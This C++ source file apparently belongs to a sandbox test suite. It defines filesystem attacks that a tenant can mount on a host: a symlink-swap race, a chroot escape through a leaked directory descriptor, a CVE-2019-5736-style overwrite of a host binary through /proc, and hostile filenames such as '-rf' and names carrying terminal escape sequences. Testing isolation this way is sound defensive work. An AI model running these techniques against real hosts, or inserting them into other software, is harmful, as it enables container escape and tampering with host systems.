// Attacks with a tenant's own files, on whoever reads, lists, writes or removes them: trees that
// are hard to remove, names that are hard to print, files that are other than they look, and names
// that change while somebody looks.

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "attacks.h"

namespace cofferdam::attacks {
namespace {

// A second name for a file, by which it is reached where its first one cannot be.
Outcome HardLink(Arguments arguments) {
  constexpr char kName[] = "hard-link";
  const Outcome outcome = Of(::link(arguments[0], kName));
  if (outcome.error_number == 0) ::unlink(kName);
  return outcome;
}

bool MakeFile(const std::string& path) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  return fd >= 0 && ::close(fd) == 0;
}

// Directories in one another, more than any path can name. Ends in the one that it began in.
Outcome DeepTree(Arguments arguments) {
  const std::string name(250, 'd');
  const int start = ::open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  for (int i = std::atoi(arguments[0]); i > 0; --i)
    if (::mkdir(name.c_str(), 0700) != 0 || ::chdir(name.c_str()) != 0) return {errno};
  if (!MakeFile("bottom")) return {errno};
  return Of(::fchdir(start));
}

// What a directory can hold that is no plain file, links to a path of the host's, and directories
// that their owner may not list, search or change.
Outcome HostileTree(Arguments arguments) {
  if (::mkdir("hostile", 0700) != 0 || ::chdir("hostile") != 0) return {errno};
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::strcpy(address.sun_path, "socket");  // NOLINT: it fits
  const int socket = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (::symlink(arguments[0], "file-link") != 0 || ::symlink("/", "root-link") != 0 ||
      ::symlink("self-link", "self-link") != 0 || ::mkfifo("fifo", 0) != 0 ||
      ::bind(socket, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0 ||
      !MakeFile("new\nline \x1b[2J") || !MakeFile("\xff\xfe") || !MakeFile("-rf") ||
      !MakeFile("closed"))
    return {errno};
  for (const mode_t mode : {0000, 0100, 0200, 0400, 0500, 0600}) {
    const std::string name = "mode-" + std::to_string(mode);
    if (::mkdir(name.c_str(), 0700) != 0 || ::mkdir((name + "/below").c_str(), 0700) != 0 ||
        !MakeFile(name + "/file") || !MakeFile(name + "/below/file") ||
        ::chmod((name + "/below").c_str(), mode) != 0 || ::chmod(name.c_str(), mode) != 0)
      return {errno};
  }
  return Of(::chmod("closed", 0));
}

// Two names, one of a directory of ours and one of a link to a directory of the host's, change
// places for ever.
Outcome SwapForever(Arguments arguments) {
  if ((::mkdir("swapped", 0700) != 0 && errno != EEXIST) ||
      (::symlink(arguments[0], "link") != 0 && errno != EEXIST))
    return {errno};
  Print({});
  for (;;) {
    // The one that was removed, or moved, comes back.
    if (::renameat2(AT_FDCWD, "swapped", AT_FDCWD, "link", RENAME_EXCHANGE) == 0) continue;
    ::mkdir("swapped", 0700);
    MakeFile("swapped/canary");
    if (::symlink(arguments[0], "link") != 0 && errno != EEXIST) return {errno};
  }
}

Outcome NewlineFiles(Arguments arguments) {
  if (::mkdir("newlines", 0700) != 0 || ::chdir("newlines") != 0) return {errno};
  for (int i = std::atoi(arguments[0]); i > 0; --i)
    if (!MakeFile("a\nb\r" + std::to_string(i) + "\n")) return {errno};
  return {};
}

// A file that says it has so many GiB, after a beginning of text.
Outcome SparseFile(Arguments arguments) {
  const int fd = ::open("sparse", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) return {errno};
  const std::string text(64 * 1024, 'x');
  if (::write(fd, text.data(), text.size()) < 0) return {errno};
  return Of(::ftruncate(fd, static_cast<off_t>(std::atoll(arguments[0])) << 30));
}

// As a process of another root does it that was left a directory from before: up, past its root.
Outcome LeakedDirectory(Arguments arguments) {
  for (int fd = 3; fd < 4096; ++fd) {
    struct stat info;
    if (::fstat(fd, &info) != 0 || !S_ISDIR(info.st_mode)) continue;
    if (::chroot(".") != 0 || ::fchdir(fd) != 0) return {errno};
    std::string path;
    for (int i = 0; i < 32; ++i) path += "../";
    return Of(::open((path + arguments[0]).c_str(), O_RDONLY | O_CLOEXEC));
  }
  return {EBADF};
}

// CVE-2019-5736: a program that somebody with more rights will run again is opened through a
// process that runs it, and opened for writing once that has ended. "child": a copy of our own.
Outcome OverwriteProgram(Arguments arguments) {
  pid_t child = -1;
  std::string pid = arguments[0];
  if (pid == "child") {
    int ready[2];
    if (::pipe2(ready, O_CLOEXEC) != 0) return {errno};
    child = ::fork();
    if (child == 0) {
      char name[] = "wait_for_end";
      char* const argv[] = {arguments[1], name, nullptr};
      ::execv(arguments[1], argv);
      ::_exit(1);
    }
    ::close(ready[1]);
    // The end of the pipe is the exec.
    char byte;
    while (::read(ready[0], &byte, 1) > 0) {
    }
    pid = std::to_string(child);
  }
  const int program = ::open(("/proc/" + pid + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
  const int error_number = errno;
  if (child > 0) {
    ::kill(child, SIGKILL);
    ::waitpid(child, nullptr, 0);
  }
  if (program < 0) return {error_number};
  return Of(::open(("/proc/self/fd/" + std::to_string(program)).c_str(), O_WRONLY | O_CLOEXEC));
}

Outcome WaitForEnd(Arguments) {
  for (;;) ::pause();
}

constexpr Attack kAttacks[] = {
    {"hard_link", HardLink, 1},
    {"deep_tree", DeepTree, 1},
    {"hostile_tree", HostileTree, 1},
    {"swap_forever", SwapForever, 1},
    {"newline_files", NewlineFiles, 1},
    {"sparse_file", SparseFile, 1},
    {"leaked_directory", LeakedDirectory, 1},
    {"overwrite_program", OverwriteProgram, 2},
    {"wait_for_end", WaitForEnd},
};

}  // namespace

std::span<const Attack> TenantAttacks() { return kAttacks; }

}  // namespace cofferdam::attacks
